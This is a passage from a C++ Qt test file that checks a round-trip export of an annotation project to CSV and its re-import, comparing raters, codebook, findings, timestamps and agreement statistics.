        QCOMPARE(readRecords(dir + u"/severity.csv"_s).value(0), (QStringList{u"severity"_s, u"description"_s}));
        QCOMPARE(readRecords(dir + u"/raters.csv"_s).value(0),
                 (QStringList{u"rater"_s, u"name"_s, u"initials"_s, u"role"_s, u"login"_s, u"uuid"_s}));

        // The same sources first (the items' content), then every CSV of the export.
        const QString copy = m_dir.filePath(u"mixed-copy.concord"_s);
        const Run sources = cli(QStringList{u"import"_s, copy, s_issues} + s_patches);
        QVERIFY2(sources.exitCode == 0, qPrintable(sources.err));
        QStringList csvs;
        for (const QString &name : QDir(dir).entryList({u"*.csv"_s}, QDir::Files, QDir::Name)) {
            csvs << dir + u'/' + name;
        }
        // 4 study codebook files, severity, affected, dimensions, raters, categorizations, reconciled, items.
        QCOMPARE(csvs.size(), 11);
        const Run labels = cli(QStringList{u"import"_s, copy} + csvs);
        QVERIFY2(labels.exitCode == 0, qPrintable(labels.err));
        QVERIFY2(!labels.err.contains(u"bug-report rows"_s), qPrintable(labels.err));

        auto original = Project::open(source, Project::ReadOnly, &error);
        QVERIFY2(original, qPrintable(error));
        auto project = Project::open(copy, Project::ReadOnly, &error);
        QVERIFY2(project, qPrintable(error));
        QCOMPARE(project->counts().items, original->counts().items);

        auto raters = [](const Project &p) {
            QStringList out;
            for (const Rater &r : p.raters()) {
                out << u"%1 / %2 / %3 / %4 / %5"_s.arg(r.name, r.initials, r.login, r.uuid.toString())
                           .arg(r.role == Rater::Role::Reconciler ? u"reconciler"_s : u"rater"_s);
            }
            out.sort();
            return out;
        };
        QCOMPARE(raters(*project), raters(*original));
        QVERIFY(raters(*project).join(u'\n').contains(u"Carol Chair / CC /  / "_s));

        auto codebook = [](const Project &p) {
            QStringList out;
            const Codebook c = p.codebook();
            for (const Dimension &d : c.dimensions) {
                QStringList values;
                for (const CodebookValue &v : c.valuesOf(d.id)) {
                    values << v.name + u": "_s + v.description;
                }
                out << u"%1 %2 kind=%3 ordered=%4 (%5) [%6]"_s.arg(d.key, d.name)
                           .arg(int(d.kind))
                           .arg(d.ordered)
                           .arg(d.description, values.join(u" | "_s));
            }
            return out;
        };
        QCOMPARE(codebook(*project), codebook(*original));

        const auto findingsBefore = findingsByUuid(*original);
        const auto findingsAfter = findingsByUuid(*project);
        QCOMPARE(findingsAfter.size(), 8);
        QCOMPARE(findingsAfter.keys(), findingsBefore.keys());
        for (auto it = findingsBefore.cbegin(); it != findingsBefore.cend(); ++it) {
            QCOMPARE(findingsAfter.value(it.key()), it.value());
        }
        QVERIFY(QStringList(findingsAfter.values()).join(u'\n').contains(u"theislab/scCODA#13 Bob Builder () #1"_s));
        auto times = [](const Project &p) {
            QMap<QString, QString> out;
            for (const Finding &f : p.findings()) {
                out.insert(f.uuid.toString(), f.created.toString(Qt::ISODateWithMs) + u' ' + f.modified.toString(Qt::ISODateWithMs));
            }
            return out;
        };
        QCOMPARE(times(*project), times(*original));
        const auto reconciledBefore = reconciledByUuid(*original);
        const auto reconciledAfter = reconciledByUuid(*project);
        QCOMPARE(reconciledAfter.size(), 4);
        QCOMPARE(reconciledAfter.keys(), reconciledBefore.keys());
        for (auto it = reconciledBefore.cbegin(); it != reconciledBefore.cend(); ++it) {
            QCOMPARE(reconciledAfter.value(it.key()), it.value());
        }

        const Run before = cli({u"agreement"_s, source, u"--json"_s, u"--bootstrap"_s, u"0"_s});
        const Run after = cli({u"agreement"_s, copy, u"--json"_s, u"--bootstrap"_s, u"0"_s});
        QVERIFY2(before.exitCode == 0 && after.exitCode == 0, qPrintable(before.err + after.err));
        const QJsonArray a = json(before).value(u"dimensions"_s).toArray();
        QCOMPARE(a.size(), 7);
        QCOMPARE(json(after).value(u"dimensions"_s).toArray(), a);
        const Run decisionsBefore = cli({u"agreement"_s, source, u"--decisions"_s, u"--json"_s});
        const Run decisionsAfter = cli({u"agreement"_s, copy, u"--decisions"_s, u"--json"_s});
        QVERIFY2(decisionsBefore.exitCode == 0 && decisionsAfter.exitCode == 0, qPrintable(decisionsBefore.err + decisionsAfter.err));
        QCOMPARE(json(decisionsAfter).value(u"dimensions"_s), json(decisionsBefore).value(u"dimensions"_s));
        QVERIFY(!json(decisionsAfter).value(u"dimensions"_s).toArray().isEmpty());
    }
};

QTEST_GUILESS_MAIN(TestProjectExport)
#include "tst_projectexport.moc"
